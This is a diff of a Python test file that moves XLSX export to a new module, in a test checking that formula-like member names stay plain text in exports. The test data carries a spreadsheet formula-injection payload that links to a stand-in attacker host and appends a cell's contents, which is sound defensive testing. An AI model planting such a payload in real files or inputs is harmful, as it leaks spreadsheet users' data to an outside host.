@@ -23,7 +23,7 @@ from collective.members import accounts
 from collective.members.models import Membership
 from collective.pool import services as pool
 from collective.pool.models import ClientPayment, TimeEntry
-from collective.reports import exports
+from collective.reports import exports, xlsx
 from tests import test_pool_views
 from tests.factories import commit, make_collective
 from tests.test_pool_views import _login
@@ -132,7 +132,7 @@ def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
     members_cells = {r["member"] for r in rows if r["member"]}
     assert members_cells == {"'=HYPERLINK(\"http://e.vil/?x=\"&D2,\"Priya\")"}
     out = io.BytesIO()
-    exports.write_xlsx(query, out)
+    xlsx.write_xlsx(query, out)
     sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Postings"]
     names = [row[6].value for row in sheet.iter_rows(min_row=2) if row[6].value]
     assert names and all(n.startswith("=HYPERLINK") for n in names)
